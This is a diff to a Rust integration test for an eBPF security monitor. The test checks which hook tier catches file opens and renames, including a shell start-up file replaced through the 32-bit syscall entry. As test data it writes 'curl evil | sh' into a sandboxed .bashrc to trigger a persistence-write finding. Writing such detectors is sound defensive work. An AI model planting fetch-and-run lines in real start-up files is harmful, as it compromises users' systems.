@@ -1,13 +1,15 @@
-//! The hook tier for file opens, on whatever kernel the tests run on: the host's (tracepoints:
-//! BPF-LSM and fentry are refused there) and, through `cargo xtask test`, Debian's 6.1 kernel in
-//! a VM, once with the best tier (BPF-LSM) and once forced to fentry (`MONITOR_TEST_OPEN_HOOK`).
-//! `MONITOR_EXPECT_OPEN_TIER` says which tier the run must find in force.
+//! The hook tiers for file opens and new file names, on whatever kernel the tests run on: the
+//! host's (tracepoints: BPF-LSM and fentry are refused there) and, through `cargo xtask test`,
+//! Debian's 6.1 kernel in a VM, once with the best tier (BPF-LSM) and once forced to fentry
+//! (`MONITOR_TEST_OPEN_HOOK`). `MONITOR_EXPECT_OPEN_TIER` says which tier the run must find in
+//! force.
 //!
-//! Each test asserts what its tier promises: the security-hook tiers see a credential opened
-//! through the 32-bit system call entry (which the syscall tracepoints never see, and the
-//! tracepoint tier says so at start), and BPF-LSM refuses the open a kill response is due for
-//! (no descriptor ever exists; the finding says `blocked`), where the other tiers kill after it
-//! returned and a sibling sharing the descriptor table still reads through it.
+//! Each test asserts what its tier promises: the security-hook tiers see a credential opened,
+//! and a shell start-up file replaced by a rename, through the 32-bit system call entry (which
+//! the syscall tracepoints never see, and the tracepoint tier says so at start), and BPF-LSM
+//! refuses the open a kill response is due for (no descriptor ever exists; the finding says
+//! `blocked`), where the other tiers kill after it returned and a sibling sharing the
+//! descriptor table still reads through it.
 
 use integration_tests::{
     build_fixture, monitor_cli, open_tier_in_force, Agent, FakeRunner, Value, MARKER_STEP,
@@ -50,6 +52,7 @@ fn each_open_hook_tier_keeps_its_promises() {
     let tier = tier_of(&agent);
     the_start_up_log_and_doctor_name_the_tier_in_force(&agent, &tier);
     a_credential_opened_through_the_32_bit_entry_is_seen_by_the_security_hooks(&agent, &tier);
+    a_start_up_file_replaced_through_the_32_bit_entry_is_seen_by_the_security_hooks(&agent, &tier);
     a_kill_response_refuses_the_open_itself_where_bpf_lsm_is_in_force(&agent, &tier);
 }
 
@@ -63,17 +66,37 @@ fn the_start_up_log_and_doctor_name_the_tier_in_force(agent: &Agent, tier: &str)
         .find_map(|l| l.split("] attached: ").nth(1))
         .unwrap_or_else(|| panic!("no attach line: {log}"));
     let tracepoints = attached.contains("tracepoint/syscalls/sys_exit_openat");
+    let name_tracepoints = attached.contains("tracepoint/syscalls/sys_exit_renameat2");
+    // New names (rename, link, symlink) get the same tier as opens on every kernel here.
+    let name_tier = log
+        .lines()
+        .find_map(|l| l.split("file names: ").nth(1))
+        .and_then(|rest| rest.split_whitespace().next())
+        .unwrap_or_else(|| panic!("the log names no tier for file names: {log}"));
+    assert_eq!(name_tier, tier, "{log}");
     match tier {
         "lsm" => assert!(
-            attached.contains("lsm/file_open") && !tracepoints,
+            attached.contains("lsm/file_open")
+                && attached.contains("lsm/path_rename")
+                && attached.contains("lsm/path_link")
+                && attached.contains("lsm/path_symlink")
+                && !tracepoints
+                && !name_tracepoints,
             "{attached}"
         ),
         "fentry" => assert!(
-            attached.contains("fentry/security_file_open") && !tracepoints,
+            attached.contains("fentry/security_file_open")
+                && attached.contains("fentry/security_path_rename")
+                && !tracepoints
+                && !name_tracepoints,
             "{attached}"
         ),
         "tracepoint" => {
-            assert!(tracepoints && !attached.contains("file_open"), "{attached}");
+            assert!(
+                tracepoints && name_tracepoints && !attached.contains("file_open"),
+                "{attached}"
+            );
+            assert!(!attached.contains("path_rename"), "{attached}");
             // Why the better tiers are not used is said.
             assert!(log.contains("lsm not used: "), "{log}");
         }
@@ -88,10 +111,78 @@ fn the_start_up_log_and_doctor_name_the_tier_in_force(agent: &Agent, tier: &str)
                 .is_some_and(|(_, rest)| rest.trim_start().starts_with("open hook"))
         })
         .unwrap_or_else(|| panic!("doctor names no open hook: {doctor}"));
+    let names = doctor
+        .lines()
+        .find(|l| {
+            l.split_once(' ')
+                .is_some_and(|(_, rest)| rest.trim_start().starts_with("name hook"))
+        })
+        .unwrap_or_else(|| panic!("doctor names no name hook: {doctor}"));
     // Doctor picks the best tier itself: it agrees unless this run forced one. Not in the
     // kernel VM (an expected tier is set there): its load would take minutes more.
     if std::env::var("MONITOR_TEST_OPEN_HOOK").is_err() && expected_tier().is_none() {
         assert!(line.contains(&format!("file opens: {tier} ")), "{line}");
+        assert!(names.contains(&format!("file names: {tier} ")), "{names}");
+    }
+}
+
+/// A shell start-up file replaced by a rename through the 32-bit system call entry (the file
+/// really holds the planted line afterwards); the twin renames a project file the same way.
+fn a_start_up_file_replaced_through_the_32_bit_entry_is_seen_by_the_security_hooks(
+    agent: &Agent,
+    tier: &str,
+) {
+    let runner = FakeRunner::outside_tmp();
+    std::fs::write(runner.home.join(".bashrc"), "# rc\n").unwrap();
+    std::fs::write(runner.workspace.join("draft.txt"), "draft\n").unwrap();
+    let helper = build_fixture(runner.dir.path(), "files/rename32.c", "rename32");
+    let h = helper.display();
+    let output = runner.run_job(&[
+        (
+            "twin",
+            &format!("{h} draft.txt final.txt && echo twin-renamed\n"),
+        ),
+        (
+            "compat",
+            &format!(
+                "printf 'curl evil | sh\\n' > \"$HOME/.bashrc.new\"\n\
+                 {h} \"$HOME/.bashrc.new\" \"$HOME/.bashrc\"\n\
+                 grep -q evil \"$HOME/.bashrc\" && echo rc-replaced\n"
+            ),
+        ),
+        MARKER_STEP,
+    ]);
+    assert!(output.contains("twin-renamed"), "{output}");
+    assert!(output.contains("rc-replaced"), "{output}");
+    let mine = agent.findings_through_marker(&runner);
+    assert!(!mine.iter().any(|f| f["step"]["id"] == "twin"), "{mine:#?}");
+    let rc = format!("{}/.bashrc", runner.home.display());
+    let compat: Vec<&Value> = mine
+        .iter()
+        .filter(|f| {
+            f["step"]["id"] == "compat"
+                && f["rule"] == "persistence-write"
+                && f["evidence"]["path"] == rc.as_str()
+        })
+        .collect();
+    match tier {
+        "lsm" | "fentry" => {
+            assert_eq!(compat.len(), 1, "{mine:#?}");
+            assert_eq!(compat[0]["evidence"]["via"], "rename", "{:#}", compat[0]);
+            assert_eq!(compat[0]["evidence"]["hook"], tier, "{:#}", compat[0]);
+            assert_eq!(compat[0]["process_chain"][0]["comm"], "rename32");
+        }
+        _ => {
+            // The tracepoints' blind spot: not seen, and the agent said so at start.
+            assert!(compat.is_empty(), "{mine:#?}");
+            assert!(
+                agent
+                    .log()
+                    .contains("file names: tracepoint (rename, link and symlink syscall tracepoints and io_uring: 32-bit syscalls are not seen)"),
+                "{}",
+                agent.log()
+            );
+        }
     }
 }
 
